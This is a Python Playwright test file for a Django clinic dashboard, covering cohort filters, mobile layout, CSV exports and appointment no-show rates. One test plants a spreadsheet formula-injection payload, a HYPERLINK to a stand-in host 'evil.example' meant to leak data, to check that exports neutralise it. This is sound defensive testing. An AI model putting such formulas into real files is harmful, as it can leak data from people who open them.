import csv
import datetime as dt
import io
import re
from pathlib import Path

import pytest
from django.utils import timezone
from playwright.sync_api import expect

from reports.views import OUTCOME_COLUMNS
from sessions.models import Muscle
from tests.factories import (
    PainScoreFactory,
    PatientFactory,
    TreatmentSessionFactory,
    TriggerPointFactory,
)

from .conftest import sign_in

pytestmark = [pytest.mark.browser, pytest.mark.django_db(transaction=True)]

ARTEFACTS = Path(__file__).resolve().parents[2] / "test-results"
DAY = dt.timedelta(days=1)
OUTCOME_KEYS = [key for key, _ in OUTCOME_COLUMNS]


def _course(clinic, therapist, profile, baseline, latest):
    now = timezone.now()
    person = PatientFactory(clinic=clinic, activity_profile=profile)
    PainScoreFactory(patient=person, source="intake", score=baseline, recorded_at=now - 30 * DAY)
    session = TreatmentSessionFactory(patient=person, therapist=therapist, started_at=now - 9 * DAY)
    for hours, source, score in (
        (0, "pre_session", baseline),
        (1, "post_session", latest + 1),
        (30, "check_in", latest),
    ):
        PainScoreFactory(
            patient=person,
            session=session,
            source=source,
            score=score,
            recorded_at=session.started_at + dt.timedelta(hours=hours),
        )
    return person


def test_a_manager_filters_the_dashboard_and_the_charts_follow(
    page, live_server, clinic_a, manager, therapist
):
    _course(clinic_a, therapist, "active", 7, 3)
    _course(clinic_a, therapist, "active", 6, 5)
    athlete = _course(clinic_a, therapist, "athlete", 8, 2)
    page.set_viewport_size({"width": 1280, "height": 900})
    errors = []
    page.on("console", lambda message: message.type == "error" and errors.append(message.text))
    sign_in(page, live_server, "carol")
    page.goto(f"{live_server.url}/dashboard/")
    dashboard = page.locator("#dashboard")
    expect(dashboard).to_have_attribute("data-state", re.compile("ready|failed"))
    assert dashboard.get_attribute("data-state") == "ready", errors
    expect(page.locator('[data-kpi="patients"]')).to_have_text("3")
    expect(page.locator('[data-kpi="responder_rate"]')).to_have_text("66.7 %")
    months = page.locator("#chart-months")
    expect(months).to_have_attribute("data-points", "2")  # one month: a bar and a point

    page.get_by_role("combobox", name="Cohort").select_option("athlete")

    page.wait_for_function(
        "(el) => el.dataset.state === 'failed' || /cohort=athlete$/.test(el.dataset.query)",
        arg=dashboard.element_handle(),
    )
    assert dashboard.get_attribute("data-state") == "ready", errors
    expect(page.locator('[data-kpi="patients"]')).to_have_text("1")
    expect(page.locator('[data-kpi="responder_rate"]')).to_have_text("100 %")
    expect(page.locator('[data-table="cohorts"] tbody tr')).to_have_count(1)
    ARTEFACTS.mkdir(exist_ok=True)
    page.screenshot(path=str(ARTEFACTS / "dashboard-filtered.png"), full_page=True)

    with page.expect_download() as caught:
        page.locator('[data-csv="cohorts"]').click()
    csv = Path(caught.value.path()).read_text()
    assert csv.splitlines()[0].startswith("Cohort,Patients,Courses")
    assert csv.splitlines()[1].startswith("Athlete,1,1")

    page.get_by_label("Find a patient by name, phone or e-mail").fill(athlete.last_name)
    page.get_by_role("link", name=athlete.first_name).first.click()
    expect(page.locator("#progress")).to_have_attribute("data-state", "ready")
    expect(page.get_by_role("heading", level=1)).to_contain_text(athlete.full_name)
    page.screenshot(path=str(ARTEFACTS / "patient-progress.png"), full_page=True)


def test_the_dashboard_fits_a_phone(page, live_server, clinic_a, manager, therapist):
    _course(clinic_a, therapist, "active", 7, 3)
    page.set_viewport_size({"width": 390, "height": 844})
    sign_in(page, live_server, "carol")
    page.goto(f"{live_server.url}/dashboard/")
    expect(page.locator("#dashboard")).to_have_attribute("data-state", "ready")
    width = page.evaluate("document.documentElement.scrollWidth")
    assert width <= 390
    ARTEFACTS.mkdir(exist_ok=True)
    page.screenshot(path=str(ARTEFACTS / "dashboard-phone.png"), full_page=True)


def test_the_dashboards_csv_keeps_a_formula_in_a_muscle_name_as_text(
    page, live_server, clinic_a, manager, therapist
):
    muscle = Muscle.objects.get(slug="upper-trapezius")
    muscle.name = '=HYPERLINK("http://evil.example/?leak","Trapezius")'
    muscle.save()
    therapist.first_name, therapist.last_name = "-2+3", "@SUM(A1)"
    therapist.save()
    person = _course(clinic_a, therapist, "active", 7, 3)
    TriggerPointFactory(session=person.sessions.first(), muscle=muscle)
    sign_in(page, live_server, "carol")
    page.goto(f"{live_server.url}/dashboard/")
    expect(page.locator("#dashboard")).to_have_attribute("data-state", "ready")

    tables = {}
    for key in ("muscles", "therapists"):
        with page.expect_download() as caught:
            page.locator(f'[data-csv="{key}"]').click()
        tables[key] = list(csv.reader(io.StringIO(Path(caught.value.path()).read_text())))

    assert tables["muscles"][1][0] == "'" + muscle.name
    assert tables["muscles"][1][1] == "1"  # counts stay numbers
    assert tables["therapists"][1][0].startswith("'-2+3")
    change = tables["therapists"][1][OUTCOME_KEYS.index("mean_change") + 1]
    assert float(change) < 0 and not change.startswith("'")  # a negative number is a number


def test_the_manager_sees_the_appointment_books_rates(
    page, live_server, clinic_a, manager, therapist
):
    """Last week: three patients came, one did not, one cancelled late: no-show 25 %, late
    cancellations 20 %; therapist booked 4 hours of 8."""
    from scheduling.models import Appointment, WorkingHours

    today = timezone.localdate(timezone.now(), clinic_a.zone)
    monday = today - dt.timedelta(days=today.weekday() + 7)
    WorkingHours.objects.create(
        clinic=clinic_a, therapist=therapist, weekday=0, starts="09:00", ends="17:00"
    )
    for hour, status in enumerate(["completed"] * 3 + ["no_show", "cancelled"], start=9):
        starts = dt.datetime.combine(monday, dt.time(hour), tzinfo=clinic_a.zone)
        Appointment.objects.create(
            clinic=clinic_a,
            patient=PatientFactory(clinic=clinic_a),
            therapist=therapist,
            starts_at=starts,
            ends_at=starts + dt.timedelta(hours=1),
            status=status,
            cancelled_at=starts - dt.timedelta(hours=2) if status == "cancelled" else None,
            cancelled_late=status == "cancelled",
        )
    page.set_viewport_size({"width": 1280, "height": 900})
    errors = []
    page.on("console", lambda message: message.type == "error" and errors.append(message.text))
    sign_in(page, live_server, "carol")
    page.goto(f"{live_server.url}/dashboard/")
    sunday = monday + dt.timedelta(days=6)
    page.get_by_label("From", exact=True).fill(monday.isoformat())
    page.get_by_label("To", exact=True).fill(sunday.isoformat())
    dashboard = page.locator("#dashboard")
    page.wait_for_function(
        "([el, period]) => el.dataset.state === 'failed' || "
        "(el.dataset.state === 'ready' && (el.dataset.query || '').includes(period))",
        arg=[dashboard.element_handle(), f"date_from={monday}&date_to={sunday}"],
    )
    assert dashboard.get_attribute("data-state") == "ready", errors
    expect(page.locator('[data-kpi="no_show_rate"]')).to_have_text("25 %")
    expect(page.locator('[data-kpi="late_cancellation_rate"]')).to_have_text("20 %")
    expect(page.locator('[data-kpi="patients_seen"]')).to_have_text("3")
    row = page.locator('[data-table="utilisation"] tbody tr')
    expect(row).to_have_count(1)
    expect(row).to_contain_text("50")
    ARTEFACTS.mkdir(exist_ok=True)
    page.screenshot(path=str(ARTEFACTS / "dashboard-operations.png"), full_page=True)
